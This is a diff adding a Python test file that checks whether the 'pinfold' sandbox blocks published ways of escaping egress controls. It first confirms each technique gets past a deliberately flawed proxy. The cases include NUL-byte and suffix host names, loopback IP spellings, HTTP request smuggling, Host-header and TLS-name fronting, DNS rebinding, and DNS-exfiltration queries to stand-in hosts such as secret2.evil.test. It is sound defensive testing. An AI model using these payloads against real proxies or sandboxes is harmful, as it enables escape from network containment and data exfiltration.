@@ -1,0 +1,102 @@
+"""Ways past the egress of other sandboxes, as published: each first gets through a proxy with the same mistake, then not through pinfold.
+
+    an empty list that meant everything       CVE-2025-66479
+    a NUL within a SOCKS name                  parser differential of a proxy (its checks and the C library read different names)
+    names that only end like an allowed one, user information, other spellings of denied names and of this machine's addresses
+    a name that changes between look and dial  DNS rebinding
+    names asked of the resolver as a way out   DNS exfiltration
+    another host within an allowed connection  domain fronting, in what is not encrypted or said in the clear
+"""
+import os
+import socket
+import subprocess
+import sys
+import time
+
+HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "clients")
+RAW = f"python3 {HERE}/raw.py"
+NAIVE = 8500  # and the four ports after it: one for each mistake
+ENDS, DENIED, LOCAL, RESOLVED, EMPTY = range(NAIVE, NAIVE + 5)
+GET = r"'GET /f HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'"
+FIRST = r"'GET /g HTTP/1.1\r\nHost: ok.test\r\n\r\n'"
+SMUGGLED = r"'POST http://ok.test:8099/ HTTP/1.1\r\nHost: ok.test:8099\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /f HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'"
+
+
+def table(t):
+    """name, flags, which mistake, command with PORT for the proxy's port"""
+    ok, below, any_host = t.allow, ["--allow", "*.ok.test", *t.exact], ["--allow", "*", "--deny", "other.test", *t.exact]
+    local = ["--allow", "*"]
+    rows = [
+        ("empty-list", ["--net", "allow"], EMPTY, f"{RAW} PORT connect other.test:8099 {GET}"),
+        ("nul-in-socks-name", below, ENDS, rf"{RAW} PORT socks 'other.test\x00.ok.test:8099' {GET}"),
+        ("nul-in-connect", below, ENDS, rf"{RAW} PORT connect 'other.test\x00.ok.test:8099' {GET}"),
+        ("longer-name", ok, ENDS, f"{RAW} PORT connect evilok.test:8099 {GET}"),
+        ("user-information", ok, ENDS, rf"{RAW} PORT send x 'GET http://ok.test:x@other.test:8099/f HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'"),
+        ("denied-in-capitals", any_host, DENIED, f"{RAW} PORT connect OTHER.Test:8099 {GET}"),
+        ("denied-with-a-dot", any_host, DENIED, f"{RAW} PORT connect other.test.:8099 {GET}"),
+        ("denied-with-a-dot-by-socks", any_host, DENIED, f"{RAW} PORT socks OTHER.test.:8099 {GET}"),
+        ("name-that-changes", ["--allow", "flip.test", *t.exact], RESOLVED, f"{RAW} PORT connect flip.test:8097 {GET}"),
+        ("other-host-in-a-tunnel", ok, ENDS, f"{RAW} PORT connect ok.test:8099 {GET}"),
+        ("other-host-in-a-socks-tunnel", ok, ENDS, f"{RAW} PORT socks ok.test:8099 {GET}"),
+        ("other-host-field", ok, ENDS, rf"{RAW} PORT send x 'GET http://ok.test:8099/f HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'"),
+        ("other-host-in-a-second-request", ok, ENDS, f"{RAW} PORT connect ok.test:8099 {FIRST} {GET}"),
+        ("smuggled-request", ok, ENDS, f"{RAW} PORT send x {SMUGGLED}"),
+        ("other-tls-name-in-a-tunnel", ok, ENDS, "echo | timeout 8 openssl s_client -proxy 127.0.0.1:PORT -connect ok.test:8443 -servername other.test 2>&1 | grep -q 'CN = ok.test' && echo hello"),
+    ]
+    other = r"Host: other.test\r\nConnection: close\r\n\r\n'"
+    for name, port, start in (("tabs", 8099, r"GET\t/f\tHTTP/1.1\r\n"), ("an-empty-line-first", 8448, r"\r\nGET /f HTTP/1.1\r\n"),
+                              ("many-empty-lines-first", 8448, r"\r\n\r\n\r\nGET /f HTTP/1.1\r\n"), ("a-rare-method", 8448, r"ACL /f HTTP/1.1\r\n")):
+        rows.append(("other-host-behind-" + name, ok, ENDS, f"{RAW} PORT connect ok.test:{port} '{start}{other}"))
+    rows.append(("other-host-in-two-pieces", ok, ENDS, rf"{RAW} PORT connect ok.test:8448 pause='GE' 'T /f HTTP/1.1\r\n{other}"))
+    for how in ("version", "pieces"):
+        rows.append(("other-tls-name-behind-an-odd-record-" + how, ok, ENDS, f"{RAW} PORT connect ok.test:8443 tls=other.test/{how}"))
+    for spelt in ("127.1", "0x7f.1", "0x7f000001", "2130706433", "0177.0.0.1", "127.0.0.1.", "127.9.9.9", "0", "[::ffff:127.0.0.1]", "loop.test", "localhost."):
+        rows.append(("this-machine-as-" + spelt.replace("[", "").replace("]", "").replace(":", "_"), local, LOCAL, f"{RAW} PORT connect '{spelt}:8099' {GET}"))
+    return rows
+
+
+def run(t):
+    node = subprocess.Popen(["node", "-e", f"require('http').createServer((q, r) => r.end('hello\\n')).listen(8448, '{t.public}')"], stdin=subprocess.DEVNULL)
+    naive = subprocess.Popen([sys.executable, HERE + "/naive.py", str(NAIVE)], stdin=subprocess.DEVNULL)
+    try:
+        for _ in range(100):
+            try:
+                socket.create_connection(("127.0.0.1", NAIVE + 4), timeout=1).close()
+                socket.create_connection((t.public, 8448), timeout=1).close()
+                break
+            except OSError:
+                time.sleep(0.1)
+        for name, flags, mistake, command in table(t):
+            t.flip()
+            out = t.outside(command.replace("PORT", str(mistake)) + " 2>&1")
+            if "hello" not in out:
+                t.report("bypasses/" + name, False, "does not get through a proxy with the mistake either: " + out[-300:])
+                continue
+            t.flip()
+            status, out = t.box(flags, "timeout 20 sh -c " + quote(command.replace("PORT", "61080")) + " 2>&1; echo \"== $?\"")
+            t.report("bypasses/" + name, "hello" not in out and "== 124" not in out, (status, out[-300:]))
+        resolver(t)
+    finally:
+        for p in (naive, node):
+            p.terminate()
+            p.wait()
+
+
+def resolver(t):
+    """What is asked of the box's resolver goes nowhere, allowed or not."""
+    ask = ("python3 -c \"import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
+           "q = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b''.join(bytes((len(x),)) + x.encode() for x in sys.argv[3].split('.')) + b'\\0\\0\\x01\\0\\x01'\n"
+           "s.sendto(q, (sys.argv[1], int(sys.argv[2]))); print(len(s.recv(999)))\"")
+    t.outside(f"{ask} 127.0.0.1 {NAIVE + 9} secret1.evil.test")
+    if "secret1.evil.test" not in t.asked():
+        t.report("bypasses/resolver", False, "a resolver that passes questions on does not show it either")
+        return
+    flags = ["--allow", "*.ok.test", *t.exact]
+    _, out = t.box(flags, f"{ask} 127.53.53.53 53 secret2.evil.test; {ask} 127.53.53.53 53 secret3.ok.test; "
+                   f"{ask} 127.0.0.1 53 secret4.evil.test; {ask} {t.public} 53 secret5.evil.test; getent hosts secret6.evil.test; getent hosts secret7.ok.test")
+    seen = [name for name in t.asked() if name.startswith("secret") and not name.startswith("secret1")]
+    t.report("bypasses/resolver", not seen and "Traceback" in out, (seen, out[-300:]))
+
+
+def quote(command):
+    return "'" + command.replace("'", "'\\''") + "'"
